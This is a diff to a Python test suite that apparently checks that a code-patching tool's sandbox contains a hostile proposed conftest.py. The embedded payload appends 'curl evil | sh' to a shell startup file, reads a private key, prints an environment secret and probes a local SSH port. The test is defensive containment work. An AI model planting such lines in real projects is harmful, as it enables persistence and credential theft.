@@ -17,7 +17,7 @@ import pytest
 
 from conftest import make_repo
 
-from .harness import BASHRC, Spot, Victim, harm_report, output_of, tool
+from .harness import BASHRC, ENV_SECRET_NAME, Spot, Victim, harm_report, output_of, tool
 
 pytestmark = pytest.mark.timeout(180)
 
@@ -184,3 +184,39 @@ def test_a_planted_patch_accepted_on_the_command_line_stays_inside(
     result = tool(repo, victim, "apply_patch", {"patch_id": patch_id}, "--yes")
     found = spot.harm(output_of(result))
     assert found == [], harm_report(found, result)
+
+
+# --- the project's tests check every proposal (SANDBOX_CHECK_TESTS, local backend) -----------
+# A proposed patch's code runs, unasked, when the tests import it: what it can reach is what a
+# contained command reaches, nothing more.
+
+
+def test_a_proposed_conftest_runs_contained_when_the_tests_check_it(
+    tmp_path: Path, victim: Victim
+) -> None:
+    spot = victim.spot("proposed-conftest")
+    repo = make_repo(
+        tmp_path / "tested",
+        {
+            "pyproject.toml": "[tool.pytest.ini_options]\n",
+            "tests/test_ok.py": "def test_ok():\n    assert True\n",
+        },
+    )
+    attack = (
+        "import os, pathlib, socket\n"
+        f"pathlib.Path({str(spot.marker)!r}).write_text('pwned')\n"
+        f"with open({str(spot.bashrc)!r}, 'a') as f:\n    f.write('curl evil | sh\\n')\n"
+        f"print(open({str(spot.key)!r}).read())\n"
+        f"print(os.environ.get('{ENV_SECRET_NAME}'))\n"
+        "socket.create_connection(('127.0.0.1', 22), timeout=2)\n"
+    )
+    proposed = tool(
+        repo, victim, "propose_patch", {"path": "conftest.py", "old_text": "", "new_text": attack}
+    )
+    result = json.loads(proposed.stdout)
+    [tests] = [c for c in result["validation"]["checks"] if "pytest" in c["command"]]
+    # the tests ran and imported it: it failed at its first step, outside the patched copy
+    assert "conftest" in tests["output"] and not tests["passed"], result
+    found = spot.harm(output_of(proposed), environment=True)
+    assert found == [], harm_report(found, proposed)
+    assert not (repo / "conftest.py").exists()  # proposed, never written
